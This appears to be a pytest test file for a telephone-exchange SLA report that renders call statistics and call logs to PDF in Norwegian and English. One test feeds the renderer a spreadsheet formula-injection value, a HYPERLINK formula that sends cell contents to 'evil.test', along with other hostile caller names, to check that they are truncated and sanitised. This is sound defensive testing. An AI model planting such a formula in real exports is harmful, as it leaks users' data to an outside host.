"""The PDF report (``reports.pdf``), rendered from hand-built reports and call logs and
read back with pypdf.

Fjordbakst (Europe/Oslo, UTC+1 in November) has the day of tests/integration/
test_sla_cli.py on Saturday 2026-11-28, local time:

    #  arrived   caller          outcome     wait   talk
    1  09:00:00  4790000001      answered     5 s  120 s   Ola Nordmann, by Kari
    2  09:10:00  anonymous       answered    15 s   60 s   withheld
    3  09:20:00  4790000003      abandoned    8 s          short abandon
    4  10:00:00  4790000004      abandoned   30 s          lost
    5  10:30:00  4790000005      message     45 s          message msg-5.wav
    6  11:00:00  4790000006      answered    12 s   30 s   on the limit
    7  23:59:59  4790000007      (going on)

SL denominator 6 - 1 = 5: SL12 2/5 = 40 %, SL20 3/5 = 60 %, lost 1/6 = 16,7 %; average
wait 115/6 = 19,2 s, longest 45 s, average talk 70 s.
"""

# The PDF prints en dashes (U+2013) for "no value" and in hours: so does the expected text.
# ruff: noqa: RUF001

from __future__ import annotations

import datetime as dt
import io
import math
import os
import re
from pathlib import Path
from typing import Any, cast
from zoneinfo import ZoneInfo

import pytest
from pypdf import PdfReader

from televikar_pbx.db.calls_repo import CallLogEntry
from televikar_pbx.db.records import CallRecord, MessageRecord
from televikar_pbx.domain.directory import Customer
from televikar_pbx.domain.outcomes import Outcome
from televikar_pbx.domain.sla import CallFacts, SlaReport, sla_report
from televikar_pbx.reports import chart
from televikar_pbx.reports.labels import EN, NB, texts
from televikar_pbx.reports.pdf import render_sla_pdf
from televikar_pbx.reports.rows import period_label

OSLO = ZoneInfo("Europe/Oslo")
DAY = dt.date(2026, 11, 28)
GENERATED = dt.datetime(2026, 11, 29, 6, 15, tzinfo=dt.UTC)  # 07:15 in Oslo
FJORD = Customer(id=1, name="Fjordbakst AS", display_name="Fjordbakst Ålesund")
LONG_NAME = "Kristoffersen-" * 72  # 1,008 characters
HOSTILE = '=HYPERLINK("http://evil.test/?d="&A1,"klikk")'


def local(text: str) -> dt.datetime:
    return dt.datetime.fromisoformat(text).replace(tzinfo=OSLO)


def entry(
    n: int,
    arrived: str,
    outcome: str | None,
    *,
    wait: float = 0.0,
    talk: float = 0.0,
    caller: str | None = "4790000001",
    name: str | None = None,
    agent: str | None = None,
    message: str | None = None,
) -> CallLogEntry:
    """A logged call: answered after ``wait`` s and talked ``talk`` s, or ended (abandoned)
    or went to message capture (message) after ``wait`` s."""
    start = local(arrived)
    waited = start + dt.timedelta(seconds=wait)
    answered = waited if outcome == Outcome.ANSWERED else None
    left = waited if outcome in (Outcome.MESSAGE, Outcome.NO_MESSAGE) else None
    ended = None
    if outcome is not None:
        ended = waited + dt.timedelta(seconds=talk if answered else 30 if left else 0)
    record = CallRecord(
        id=n, channel_id=f"1764320400.{n}", linkedid=f"1764320400.{n}", customer_id=1,
        dialled_number="4721000001", caller_number=caller, caller_name=name,
        arrived_at=start, answered_at=answered, ended_at=ended,
        agent_id=1 if agent else None, outcome=outcome,
    )  # fmt: skip
    stored = None
    if message is not None and ended is not None:
        stored = MessageRecord(
            id=n, call_id=n, customer_id=1, caller_number=caller, file=message,
            duration_s=29.0, created_at=ended,
        )  # fmt: skip
    return CallLogEntry(call=record, agent_name=agent, left_queue_at=left, message=stored)


CALLS = [
    entry(1, "2026-11-28 09:00:00", "answered", wait=5, talk=120, name="Ola Nordmann",
          agent="Kari"),
    entry(2, "2026-11-28 09:10:00", "answered", wait=15, talk=60, caller="anonymous",
          name="Anonymous", agent="Kari"),
    entry(3, "2026-11-28 09:20:00", "abandoned", wait=8, caller="4790000003"),
    entry(4, "2026-11-28 10:00:00", "abandoned", wait=30, caller="4790000004"),
    entry(5, "2026-11-28 10:30:00", "message", wait=45, caller="4790000005",
          message="/var/spool/televikar/messages/1/msg-5.wav"),
    entry(6, "2026-11-28 11:00:00", "answered", wait=12, talk=30, caller="4790000006",
          agent="Per Hansen"),
    entry(7, "2026-11-28 23:59:59", None, caller="4790000007"),
]  # fmt: skip


def report_of(
    calls: list[CallLogEntry], by: Any = "hour", first: dt.date = DAY, last: dt.date = DAY
) -> SlaReport:
    facts = [
        CallFacts(
            arrived_at=e.call.arrived_at,
            answered_at=e.call.answered_at,
            ended_at=e.call.ended_at,
            outcome=Outcome(e.call.outcome),
            overflowed_at=e.left_queue_at,
        )
        for e in calls
        if e.call.outcome is not None
    ]
    return sla_report(facts, first_day=first, last_day=last, by=by)


def pages(pdf: bytes) -> list[str]:
    return [page.extract_text() for page in PdfReader(io.BytesIO(pdf)).pages]


@pytest.fixture(scope="module")
def norwegian() -> list[str]:
    return pages(render_sla_pdf(FJORD, report_of(CALLS), CALLS, generated_at=GENERATED))


def test_title_and_summary_in_norwegian_by_default(norwegian: list[str]) -> None:
    first = norwegian[0].splitlines()
    assert first[:2] == ["SLA-rapport: Fjordbakst Ålesund", "Periode: 2026-11-28, per time"]
    assert first[2] == (
        "Tider i lokal tid (Europe/Oslo) · SLA-definisjoner versjon 1 · Laget 2026-11-29 07:15"
    )
    summary = "\n".join(first)
    for line in (
        "Nøkkeltall Resultat Mål Vurdering",
        "Tilbudte anrop 6 –",
        "Besvarte anrop 3 –",
        "SL12: besvart innen 12 s 40,0 % (2 av 5) ≥ 70 % ikke oppfylt",
        "SL20: besvart innen 20 s 60,0 % (3 av 5) ≥ 90 % ikke oppfylt",
        "Tapte anrop (la på etter mer enn 12 s) 16,7 % (1 av 6) ≤ 5 % ikke oppfylt",
        "Korte avbrudd (la på innen 12 s) 1 –",
        "Beskjeder 1 –",
        "Snitt ventetid 19,2 s –",
        "Lengste ventetid 45,0 s –",
        "Snitt samtaletid 70,0 s –",
        "Servicenivå per time",
    ):
        assert line in first, (line, summary)
    assert all(f"Side {n} av {len(norwegian)}" in page for n, page in enumerate(norwegian, 1))


def test_hour_table(norwegian: list[str]) -> None:
    text = "\n".join(norwegian)
    assert "Time for time" in text
    assert "09:00–10:00 3 2 50,0 ✗ 100,0 ✓ 0,0 ✓ 1 0 9,3 15,0 90,0" in text
    assert "10:00–11:00 2 0 0,0 ✗ 0,0 ✗ 50,0 ✗ 0 1 37,5 45,0 –" in text
    # An hour without offered calls is not judged.
    assert "23:00–00:00 0 0 – – – 0 0 – – –" in text
    assert "Totalt 6 3 40,0 ✗ 60,0 ✗ 16,7 ✗ 1 1 19,2 45,0 70,0" in text


def test_every_call_in_the_log(norwegian: list[str]) -> None:
    log = "\n".join(norwegian[norwegian.index(next(p for p in norwegian if "Anropslogg" in p)) :])
    assert "7 anrop. Tider i lokal tid (Europe/Oslo)" in log
    for row in (
        "2026-11-28 09:00:00 4790000001 Ola Nordmann 5,0 Besvart Kari 120,0",
        "2026-11-28 09:10:00 skjult nummer 15,0 Besvart Kari 60,0",
        "2026-11-28 09:20:00 4790000003 8,0 Avbrutt",
        "2026-11-28 10:00:00 4790000004 30,0 Avbrutt",
        "2026-11-28 10:30:00 4790000005 45,0 Beskjed msg-5.wav",
        "2026-11-28 11:00:00 4790000006 12,0 Besvart Per Hansen 30,0",
        "2026-11-28 23:59:59 4790000007 Ikke avsluttet",
    ):
        assert row in log.splitlines(), row
    assert "Anonymous" not in log  # a withheld caller's name is not shown


def test_english() -> None:
    pdf = render_sla_pdf(FJORD, report_of(CALLS), CALLS, language="en", generated_at=GENERATED)
    text = pages(pdf)
    lines = "\n".join(text).splitlines()
    assert lines[:2] == ["SLA report: Fjordbakst Ålesund", "Period: 2026-11-28, by hour"]
    for line in (
        "Times in local time (Europe/Oslo) · SLA definitions version 1 · Generated "
        "2026-11-29 07:15",
        "SL12: answered within 12 s 40.0% (2 of 5) ≥ 70% not met",
        "Lost calls (hung up after more than 12 s) 16.7% (1 of 6) ≤ 5% not met",
        "Average wait 19.2 s –",
        "Total 6 3 40.0 ✗ 60.0 ✗ 16.7 ✗ 1 1 19.2 45.0 70.0",
        "2026-11-28 09:10:00 withheld number 15.0 Answered Kari 60.0",
        "2026-11-28 10:30:00 4790000005 45.0 Message msg-5.wav",
        "2026-11-28 23:59:59 4790000007 Not ended",
    ):
        assert line in lines, line
    assert f"Page 1 of {len(text)}" in text[0]
    assert not any(word in "\n".join(text) for word in ("Side ", "oppfylt", "skjult nummer"))
    assert PdfReader(io.BytesIO(pdf)).metadata.title == (
        "SLA report: Fjordbakst Ålesund, 2026-11-28"
    )


def test_other_languages_and_naive_times_are_refused() -> None:
    with pytest.raises(ValueError, match="report language must be one of nb, en, got 'de'"):
        render_sla_pdf(FJORD, report_of(CALLS), CALLS, language="de", generated_at=GENERATED)
    with pytest.raises(ValueError, match="generated_at must be timezone-aware"):
        render_sla_pdf(FJORD, report_of(CALLS), CALLS, generated_at=dt.datetime(2026, 11, 29))
    assert (texts("nb"), texts("en")) == (NB, EN)


def test_hostile_names_are_cut_and_replaced() -> None:
    calls = [
        entry(1, "2026-11-28 09:00:00", "answered", wait=3, talk=10, name=LONG_NAME,
              agent="K" * 500),
        entry(2, "2026-11-28 09:01:00", "answered", wait=3, talk=10, caller=HOSTILE,
              name="@SUM(A1:A9)", agent="Kari"),
        # Undecodable bytes (surrogateescape), a control character, a script DejaVu lacks.
        entry(3, "2026-11-28 09:02:00", "abandoned", wait=20, name="Bj\udcf8rn\x1b[2J 张伟"),
        entry(4, "2026-11-28 09:03:00", "abandoned", wait=20, caller="9" * 400,
              name="Åse Ødegård"),
    ]  # fmt: skip
    customer = Customer(id=1, name="Fjordbakst AS", display_name="Fjordbakst \udcff" + "Å" * 300)
    text = "\n".join(
        pages(render_sla_pdf(customer, report_of(calls), calls, generated_at=GENERATED))
    )
    [row] = [line for line in text.splitlines() if line.startswith("2026-11-28 09:00:00")]
    assert re.fullmatch(
        r"2026-11-28 09:00:00 4790000001 (Kristoffersen-){2}[\w-]*… 3,0 Besvart K{8,}… 10,0", row
    )
    lines = text.splitlines()
    for line in (
        '2026-11-28 09:01:00 =HYPERLINK("http:… @SUM(A1:A9) 3,0 Besvart Kari 10,0',
        "2026-11-28 09:02:00 4790000001 Bj\ufffdrn\ufffd[2J \ufffd\ufffd 20,0 Avbrutt",
        "2026-11-28 09:03:00 999999999999999… Åse Ødegård 20,0 Avbrutt",
    ):
        assert line in lines, line
    assert lines[0].startswith("SLA-rapport: Fjordbakst \ufffdÅÅÅ") and lines[0].endswith("Å…")


def test_many_calls_run_onto_pages_that_repeat_the_header(norwegian: list[str]) -> None:
    start = local("2026-11-28 08:00:00")
    calls = [
        entry(n, f"{start + dt.timedelta(seconds=40 * n):%Y-%m-%d %H:%M:%S}", "answered",
              wait=n % 25, talk=60, name=f"Innringer {n}", agent="Kari")
        for n in range(300)
    ]  # fmt: skip
    text = pages(render_sla_pdf(FJORD, report_of(calls), calls, generated_at=GENERATED))
    assert len(text) > len(norwegian) + 5
    log = text[next(i for i, page in enumerate(text) if "Anropslogg" in page) :]
    assert len(log) > 5
    for page in log:
        lines = page.splitlines()
        assert lines[0] == "SLA-rapport · Fjordbakst Ålesund · 2026-11-28"
        assert "Dato Tid Innringer Navn Ventetid (s) Utfall Agent Samtaletid (s) Beskjed" in lines
    shown = [line for page in log for line in page.splitlines() if line.startswith("2026-")]
    assert [line.split()[3:5] for line in shown] == [["Innringer", str(n)] for n in range(300)]
    assert text[-1].endswith(f"Side {len(text)} av {len(text)}")


def test_day_by_day_and_no_calls() -> None:
    report = report_of([], by="day", first=dt.date(2026, 11, 1), last=dt.date(2026, 11, 30))
    text = "\n".join(pages(render_sla_pdf(FJORD, report, [], generated_at=GENERATED)))
    assert "Periode: 2026-11-01 – 2026-11-30, per dag" in text
    assert "Dag for dag" in text and "Servicenivå per dag" in text
    assert "søn 2026-11-01 0 0 – – – 0 0 – – –" in text
    assert "man 2026-11-30 0 0 – – – 0 0 – – –" in text
    assert "SL12: besvart innen 12 s – ≥ 70 % ikke vurdert" in text
    assert "Ingen anrop i perioden." in text


def test_the_same_report_gives_the_same_bytes() -> None:
    one = render_sla_pdf(FJORD, report_of(CALLS), CALLS, generated_at=GENERATED)
    assert one == render_sla_pdf(FJORD, report_of(CALLS), CALLS, generated_at=GENERATED)
    assert one.startswith(b"%PDF-")
    assert PdfReader(io.BytesIO(one)).metadata.creation_date == GENERATED


def test_period_labels_on_the_autumn_change() -> None:
    autumn = dt.date(2026, 10, 25)
    report = report_of([], first=autumn, last=autumn)
    labels = [period_label(p, report, NB) for p in report.periods]
    assert len(labels) == 25
    assert labels[1:5] == [
        "01:00–02:00", "02:00–03:00 +02:00", "02:00–03:00 +01:00", "03:00–04:00",
    ]  # fmt: skip
    assert labels[-1] == "23:00–00:00" and period_label(report.total, report, EN) == "Total"
    spring = dt.date(2026, 3, 29)
    report = report_of([], first=spring, last=spring)
    assert [period_label(p, report, NB) for p in report.periods][1:3] == [
        "01:00–02:00", "03:00–04:00",
    ]  # fmt: skip
    week = report_of([], first=autumn, last=dt.date(2026, 10, 26))
    assert period_label(week.periods[3], week, NB) == "2026-10-25 02:00 +01:00"
    by_day = report_of([], by="day", first=autumn, last=autumn)
    assert period_label(by_day.periods[0], by_day, EN) == "Sun 2026-10-25"


def test_chart_ticks() -> None:
    autumn = dt.date(2026, 10, 25)
    ticks = chart.axis_ticks(report_of([], first=autumn, last=autumn), NB)
    assert list(ticks) == list(range(25))
    assert (ticks[2], ticks[3], ticks[4]) == ("02\n+2", "02\n+1", "03")
    month = report_of([], by="day", first=dt.date(2026, 11, 1), last=dt.date(2026, 11, 30))
    assert list(chart.axis_ticks(month, NB).values())[:2] == ["1.11.", "2.11."]
    assert chart.axis_ticks(month, EN)[29] == "30 Nov"
    # Three days by hour: every third hour on the clock, the date at midnight, the same
    # hours on each day whatever its length.
    three = report_of([], first=dt.date(2026, 10, 24), last=dt.date(2026, 10, 26))
    ticks = chart.axis_ticks(three, NB)
    assert len(ticks) == 24
    assert [ticks[i] for i in sorted(ticks)][8:11] == ["00\n25.10.", "03", "06"]
    assert ticks[24 + 25] == "00\n26.10."


def test_chart_is_a_png_with_gaps(monkeypatch: pytest.MonkeyPatch) -> None:
    from matplotlib.figure import Figure

    drawn: list[Figure] = []
    savefig = Figure.savefig

    def keep(self: Figure, *args: Any, **kwargs: Any) -> None:
        drawn.append(self)
        savefig(self, *args, **kwargs)

    monkeypatch.setattr(Figure, "savefig", keep)
    png = chart.sl_chart_png(report_of(CALLS), NB, width_mm=180, height_mm=78)
    assert png.startswith(b"\x89PNG\r\n\x1a\n") and len(png) > 10_000
    assert png == chart.sl_chart_png(report_of(CALLS), NB, width_mm=180, height_mm=78)

    # The lines drawn: hours without calls are gaps (NaN, where matplotlib breaks the
    # line), not zeros; 10:00, whose callers all missed the level, is a real zero.
    lines = {line.get_label(): line for line in drawn[0].axes[0].get_lines()}
    for name, values in (
        ("SL12", {9: 50.0, 10: 0.0, 11: 100.0}),
        ("SL20", {9: 100.0, 10: 0.0, 11: 100.0}),
    ):
        ys = [float(y) for y in cast(Any, lines[name].get_ydata())]
        assert len(ys) == 24
        assert {h: y for h, y in enumerate(ys) if not math.isnan(y)} == values, name


def test_matplotlib_gets_a_private_directory(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("MPLCONFIGDIR", "/somewhere/chosen")
    chart.matplotlib_home()
    assert os.environ["MPLCONFIGDIR"] == "/somewhere/chosen"
    monkeypatch.delenv("MPLCONFIGDIR")
    chart.matplotlib_home()
    path = Path(os.environ["MPLCONFIGDIR"])
    assert path.name.startswith("televikar-pbx-matplotlib-") and path.is_dir()
    assert path.stat().st_mode & 0o077 == 0 and path.stat().st_uid == os.getuid()
    assert not str(path).startswith(str(Path.home()))
